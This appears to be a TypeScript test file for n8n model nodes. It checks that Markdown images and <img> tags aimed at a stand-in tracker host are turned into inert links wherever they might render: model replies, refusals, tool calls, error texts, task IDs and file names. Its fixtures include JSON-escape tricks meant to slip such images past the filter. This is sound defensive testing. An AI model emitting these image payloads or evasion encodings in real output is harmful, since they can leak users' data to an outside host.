	'an image in the text': [`![x](${FILE})`, `![x](${FILE})`],
	// n8n's page reads such a text as JSON, and draws what is in it.
	'an escape in JSON': [
		`{"type":"x","text":"\\u0021[x](${AT})"}`,
		`{"type":"x","text":"[x](${AT})"}`,
	],
	'escapes in a row': [`\\u0021!\\u0021\\u005Bx](${AT})`, `!! [x](${AT})`],
	'an escaped bracket in JSON': [`{"text":"!\\u005bx](${AT})"}`, `{"text":"[x](${AT})"}`],
	'an escaped end of its text': [`![a\\u005d(${AT}) b](${FILE})`, `[a\\u005d(${AT}) b](${FILE})`],
	// Eight escapes make the text as much shorter as the image is long that stays.
	'an image behind escapes and one that stays': [
		`${'\\u0021['.repeat(8)}![k](${FILE})![x](${AT})`,
		`${'['.repeat(8)}![k](${FILE})[x](${AT})`,
	],
	'an escape of no image': ['In JSON ! is \\u0021 or \\', 'In JSON ! is \\u0021 or \\'],
	'no image': ['Hi! [a](b)! 1 < 2 <b>!</b>', 'Hi! [a](b)! 1 < 2 <b>!</b>'],
};

const NODES: Readonly<Record<string, IDataObject>> = {
	chatCompletion: { prompt: ASK.prompt },
	functionCallingAgent: { prompt: ASK.prompt },
	superAssistant: { appCode: ASSIST.appCode, message: ASSIST.message },
	agentVideoChatModel: {},
};

/** The texts that each node is tried with; the rest is read by the same function. */
const SOME = [
	'an image',
	'an image of a file host',
	'an image of the service',
	'a tag',
	'no image',
];
const textsFor = (type: string) =>
	Object.entries(TEXTS).filter(
		([name]) => type === 'chatCompletion' || SOME.includes(name) || thorough(false, true),
	);

/** The text of an item: of a node, or of the stub that calls a model. */
function textOf(json: object): string {
	const { output, message } = json as {
		output?: string;
		message?: { content: { text?: string }[] };
	};
	return output ?? message!.content.map(({ text = '' }) => text).join('');
}

describe.each(
	Object.keys(NODES).flatMap((type) => [
		{ title: `${type}, streaming`, type, streaming: true },
		{ title: `${type}, last node`, type, streaming: false },
	]),
)('$title', ({ type, streaming }) => {
	const isModel = type === 'agentVideoChatModel';

	test.each(textsFor(type))('%s', async (_name, [text, wanted]) => {
		const real = (each: string) => each.replace('$own', server.url);
		const written = real(text);
		says(written);
		const parameters = { ...NODES[type], ...(!streaming && !isModel && { streaming: 'off' }) };
		const isWhole = !streaming;
		const { said, json } = await visit({ type, parameters, streaming, isWhole });
		if (streaming) expect(said).toBe(real(wanted));
		// The owner may open the item of a streamed reply in the editor.
		if (!streaming || !isModel) expect(textOf(json)).toBe(real(wanted));
		// What was paid for is kept as it was.
		if (!isModel) expect(json['content'] ?? json['output']).toBe(written);
	});

	if (streaming) return;
	// A webhook answers when the workflow has run: what it answers is data, which no page draws.
	const ask = async () =>
		await visit({ type, parameters: NODES[type]!, start: webhook('Webhook'), isWhole: true });

	test('behind a webhook a reply is as the model has written it, without the API key', async () => {
		const written = `{"html":"<img src='${AT}'>", "text":"![x](${AT}) ${KEY}"}`;
		says(written);
		const { json } = await ask();
		expect(textOf(json)).toBe(written.replace(KEY, '[masked: API Key]'));
		expect(json).not.toHaveProperty('content');
	});

	test('behind a webhook a reply that was cut off has no mark: an agent takes none for whole', async () => {
		says('It began', 'length');
		const { error, json } = await ask();
		if (isModel) expect(error!.message).toMatch(/^The reply was cut off, with/);
		else expect(json).toMatchObject({ output: 'It began', finish_reason: 'length' });
	});
});

const IMAGE = `![x](${AT})`;
const LINK = `[x](${AT})`;
const REFUSED = answered({ content: null, refusal: `No ${IMAGE}` });

/** What else a chat shows than the text of a reply: its page draws a whole item that has no text. */
const OTHERS: readonly [title: string, type: string, parameters: IDataObject, answer: object][] = [
	['a refusal', 'chatCompletion', ASK, REFUSED],
	['a refusal', 'functionCallingAgent', ASK, REFUSED],
	['a refusal', 'superAssistant', ASSIST, REFUSED],
	[
		...(['a tool call that nobody has declared', 'chatCompletion', ASK] as const),
		answered(calling({ clip: IMAGE }), 'tool_calls'),
	],
	['a prompt', 'createVideo', { prompt: `A kite ${IMAGE}` }, { ...TASK, status: 'queued' }],
	[
		'a prompt that the service has changed',
		'waitForVideo',
		{ taskId: 'task-1', download: false },
		{ ...DONE, enhanced_prompt: IMAGE },
	],
	[
		'the reason of a failure',
		'waitForVideo',
		{ taskId: 'task-1', options: { onFailed: 'output' } },
		{ ...TASK, status: 'failed', error_message: IMAGE },
	],
];

describe.each(ON_ERROR)('On Error: %s', (onError) => {
	test.each(OTHERS)('%s of %s has no image', async (_title, type, parameters, answer) => {
		answers(answer);
		const visits = [];
		for (const streaming of [false, true])
			visits.push(await visit({ type, parameters, onError, streaming }));
		const [last, live] = visits;
		// A chat that streams shows no item, and another one no error that stops the workflow.
		const shown = last!.shown + live!.said;
		expect(shown).toContain(LINK);
		expect(shown).not.toContain(IMAGE);
	});

	// Where the editor of n8n draws images: in the hints below an output, and in the description of an error.
	test.each(CHATS)('no image of $type is in what the owner reads', async ({ type }) => {
		const words = `No: <img src="${AT}"> ${IMAGE}`;
		fails({ message: words, type: words }, { trace_id: words });
		const parameters = { ...NODES[type], streaming: 'off' };
		const { hints, error } = await visit({ type, parameters, onError });
		const drawn = JSON.stringify([hints, error?.description]);
		expect(drawn).toMatch(/The service said: \\+"No/);
		expect(drawn).not.toMatch(/<img|!\[/);
	});
});

test('no image is in the ID of a task that an error names', async () => {
	script = (response, _request, index) => {
		if (index === 0) answerWell(response, body({ ...TASK, task_id: `<img src="${AT}">` }));
		else json(response, 400, { error: { message: 'No' } });
	};
	const parameters = { prompt: '={{ $json.prompt }}', options: { concurrency: 1 } };
	const twoKites = stubNode('Two', () => [
		{ json: { prompt: 'A kite' } },
		{ json: { prompt: 'A fox' } },
	]);
	const { error } = await visit({ type: 'createVideo', parameters, through: [twoKites] });
	expect(error!.description).toContain('tracker.example');
	expect(error!.description).not.toContain('<img');
});

test('no image is in a hint, whatever it is made of', () => {
	const { message } = toHint(`Waiting for <img src="${AT}"> and ${IMAGE}`);
	expect(message).toContain('tracker.example');
	expect(message).not.toMatch(/<img|!\[/);
});

test('no image is in the name of a file that somebody has sent', async () => {
	const image = [{ source: 'binary', binaryProperty: 'picture' }];
	const sent = { mimeType: 'image/png', data: '' };
	const { error } = await runNode('chatCompletion', {
		items: [{ chatInput: 'Hi' }],
		binaries: [{ [`<img src="${AT}">`]: sent }],
		credential: credential(),
		parameters: { ...ASK, images: { image } },
	});
	expect(error!.description).toContain('tracker.example');
	expect(error!.description).not.toContain('<img');
});
